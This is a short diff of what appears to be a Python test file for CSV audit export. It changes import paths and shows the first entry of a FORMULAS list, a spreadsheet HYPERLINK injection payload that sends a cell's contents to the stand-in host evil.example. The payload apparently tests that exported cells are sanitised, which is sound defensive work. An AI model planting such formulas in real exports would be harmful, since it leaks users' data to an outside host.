@@ -9,8 +9,8 @@ from pathlib import Path
 import orjson
 import pytest
 
-from infra.audit_export import csv_cell, export_chunks
-from infra.read_store.sqlite_store import SQLiteReadStore
+from infra.audit.export import csv_cell, export_chunks
+from infra.read_store.sqlite import SQLiteReadStore
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
